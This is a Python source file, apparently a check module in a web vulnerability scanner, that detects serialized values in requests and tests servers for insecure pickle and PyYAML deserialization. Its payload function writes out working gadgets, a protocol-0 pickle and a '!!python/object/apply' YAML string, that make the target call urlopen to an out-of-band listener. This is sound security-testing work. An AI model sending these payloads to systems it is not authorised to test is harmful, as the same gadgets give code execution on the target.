"""Insecure deserialization (``deserialization``): the server turns a serialized object from the request
back into objects with a format that can call functions (Python pickle, PyYAML's Python tags).

Gate: the recorded value, as is or decoded from base64 (standard or URL-safe), hex or percent-encoding,
is a Python pickle (protocol 2-5 header, or a protocol 0/1 stream ending in STOP) or YAML carrying
``!!python/`` tags. Java serialized objects (``AC ED 00 05``), PHP ``serialize()`` strings and .NET
ViewState are recognised (:func:`sniff`) but not attacked: none of them has a gadget that is both
generic and harmless without the application's own classes or keys.

The payload only makes the target fetch the node's out-of-band listener with a unique token
(``urllib.request.urlopen`` called by the pickle's REDUCE, or by PyYAML's ``python/object/apply``),
re-encoded the way the recorded value was. Nothing is executed beyond that request; no command, no
file. A callback is confirmed by a second payload with a fresh token; a callback after the response
is awaited (the engine's grace period). Without the listener the check has no harmless effect to
observe and does not attack (the run's stats say so).
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote_from_bytes, unquote_to_bytes

from lunge.checks import callbacks
from lunge.checks.base import Check, CheckContext, Confidence, Probe, Severity
from lunge.http.points import ValueKind

_HEX = re.compile(r"(?:[0-9a-fA-F]{2}){8,}")
_B64 = re.compile(r"[A-Za-z0-9+/]{8,}={0,2}|[A-Za-z0-9_-]{8,}={0,2}")
# Protocol 0/1 pickles: a MARK then a dict, list or string, or a GLOBAL, or a bare string or int.
_PICKLE_OLD = re.compile(rb"^(?:\((?:dp|lp|S'|V|I\d|F\d)|c[A-Za-z_][\w.]*\n[A-Za-z_]\w*\n|S'|I\d|\}q|\]q)")
_PHP = re.compile(rb"^(?:a:\d+:\{|O:\d+:\"|s:\d+:\"|C:\d+:\")")
_YAML_PYTHON = re.compile(rb"!!python/")


@dataclass(frozen=True, slots=True)
class Decoded:
    """A recorded value read as serialized data: the format, the encoding, and how to encode back."""

    format: str  # pickle | yaml | java | php | viewstate
    encoding: str  # raw | base64 | base64url | hex | url
    encode: Callable[[bytes], str]


def sniff(data: bytes) -> str | None:
    """The serialization format of ``data``, or None.

    >>> import pickle; sniff(pickle.dumps({"a": 1})), sniff(b"\\xac\\xed\\x00\\x05sr"), sniff(b'a:1:{i:0;s:1:"x";}')
    ('pickle', 'java', 'php')
    """
    if len(data) >= 3 and data[0] == 0x80 and 2 <= data[1] <= 5 and data.endswith(b"."):
        return "pickle"
    if data.startswith(b"\xac\xed\x00\x05"):
        return "java"
    if data.startswith(b"\xff\x01"):
        return "viewstate"
    if _YAML_PYTHON.search(data):
        return "yaml"
    if _PHP.match(data) and data.rstrip().endswith((b"}", b";")):
        return "php"
    if data.endswith(b".") and _PICKLE_OLD.match(data) and (b"\n" in data or data[:1] in (b"}", b"]")):
        return "pickle"
    return None


def decode(value: str) -> Decoded | None:
    """The serialized data inside ``value``, trying it as is, as hex, base64 and percent-encoding."""
    raw = value.encode("utf-8", "surrogateescape")
    candidates: list[tuple[str, bytes, Callable[[bytes], str]]] = [("raw", raw, _raw)]
    if _HEX.fullmatch(value):
        upper = value.isupper()
        candidates.append(("hex", bytes.fromhex(value),
                           lambda b: b.hex().upper() if upper else b.hex()))
    if _B64.fullmatch(value):
        urlsafe = "-" in value or "_" in value
        padded = value.endswith("=") or len(value) % 4 == 0
        data = _b64(value, urlsafe)
        if data is not None:
            candidates.append(("base64url" if urlsafe else "base64", data, _b64_encoder(urlsafe, padded)))
    if "%" in value:
        candidates.append(("url", unquote_to_bytes(value), lambda b: quote_from_bytes(b, safe="")))
    for encoding, data, encode in candidates:
        found = sniff(data)
        if found is not None:
            return Decoded(found, encoding, encode)
    return None


def _raw(data: bytes) -> str:
    return data.decode("utf-8", "surrogateescape")


def _b64(value: str, urlsafe: bool) -> bytes | None:
    padded = value + "=" * (-len(value) % 4)
    try:
        return base64.urlsafe_b64decode(padded) if urlsafe else base64.b64decode(padded, validate=True)
    except (binascii.Error, ValueError):
        return None


def _b64_encoder(urlsafe: bool, padded: bool) -> Callable[[bytes], str]:
    def encode(data: bytes) -> str:
        out = (base64.urlsafe_b64encode(data) if urlsafe else base64.b64encode(data)).decode("ascii")
        return out if padded else out.rstrip("=")

    return encode


def payload(fmt: str, url: str) -> bytes:
    """A serialized value whose only effect when loaded is a GET of ``url``.

    >>> payload("pickle", "http://127.0.0.1:1/t")
    b'curllib.request\\nurlopen\\n(Vhttp://127.0.0.1:1/t\\ntR.'
    """
    if fmt == "pickle":
        # Protocol 0 opcodes: GLOBAL urllib.request.urlopen, MARK, UNICODE url, TUPLE, REDUCE, STOP.
        return b"curllib.request\nurlopen\n(V" + url.encode("ascii") + b"\ntR."
    if fmt == "yaml":
        return f'!!python/object/apply:urllib.request.urlopen ["{url}"]\n'.encode("ascii")
    raise ValueError(f"no harmless payload for {fmt}")


ATTACKED = ("pickle", "yaml")


def _applies(ctx: CheckContext) -> bool:
    point = ctx.point
    if point.kind not in (ValueKind.STRING, ValueKind.BINARY) or len(point.value) < 4:
        return False
    found = decode(point.value)
    return found is not None and found.format in ATTACKED


def _run(ctx: CheckContext) -> Probe:
    found = decode(ctx.point.value)
    if found is None or found.format not in ATTACKED or ctx.oob is None:
        return []
    oob = ctx.oob
    tok = callbacks.token(ctx)
    (hit,) = yield [callbacks.attack(ctx, found.encode(payload(found.format, oob.url(tok))), tok, found.format)]
    http = callbacks.http_callbacks(hit)
    details = {"format": found.format, "encoding": found.encoding, "gadget": "urllib.request.urlopen"}
    if not http:
        return [callbacks.deferred(DESERIALIZATION, ctx, hit, (tok,),
                                   f"a {found.format} value calling urlopen when loaded", details)]
    again = callbacks.token(ctx)
    (confirm,) = yield [callbacks.attack(ctx, found.encode(payload(found.format, oob.url(again))), again,
                                         "confirm")]
    if not callbacks.http_callbacks(confirm):
        return []
    return [DESERIALIZATION.verdict(
        ctx, hit, proof=callbacks.proof_line(http[0]), confidence=Confidence.FIRM, controls=(ctx.normal, confirm),
        confirmation=(f"the {found.format} value ({found.encoding}) made the server call the out-of-band "
                      f"listener with the attack's token while loading it; a second value with a fresh token "
                      f"({again}) did too"),
        details=details | {"oob": [i.summary() for i in hit.interactions],
                           "confirm_oob": [i.summary() for i in confirm.interactions]},
    )]


DESERIALIZATION = Check(
    id="deserialization",
    title="Insecure deserialization",
    kind="deser",
    severity=Severity.CRITICAL,
    cwe=502,
    description="The server deserializes data from the request with a format that can instantiate arbitrary "
                "classes or call functions (pickle, unsafe YAML), which lets an attacker run code on it.",
    run=_run,
    applies=_applies,
    remediation="Never unpickle or unsafe-load data a client can change: use JSON (or yaml.safe_load), or sign "
                "the serialized value with a server-side key and verify it before loading.",
    uses_oob=True,
)
CHECKS = (DESERIALIZATION,)
